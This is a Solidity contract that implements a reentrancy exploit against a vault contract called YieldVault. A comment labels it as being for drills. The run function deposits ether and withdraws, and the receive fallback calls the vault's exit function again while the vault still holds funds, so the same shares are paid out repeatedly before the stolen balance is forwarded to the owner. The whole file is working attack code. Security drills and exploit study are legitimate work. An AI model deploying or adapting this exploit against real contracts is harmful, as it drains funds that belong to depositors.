// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import {YieldVault} from "./YieldVault.sol";

/// The attack on `YieldVault`, for drills: deposit once, then be paid for the same shares again and again.
contract VaultAttack {
    address private immutable owner;
    YieldVault private immutable vault;
    uint256 private stake;

    error NotOwner(address caller);
    error Unpaid();

    constructor(YieldVault vault_) {
        owner = msg.sender;
        vault = vault_;
    }

    function run() external payable {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        vault.deposit{value: msg.value}();
        stake = vault.convertToAssets(vault.sharesOf(address(this)));
        vault.exit();
        stake = 0;
        (bool paid,) = owner.call{value: address(this).balance}("");
        if (!paid) revert Unpaid();
    }

    receive() external payable {
        if (stake > 0 && address(vault).balance >= stake) vault.exit();
    }
}
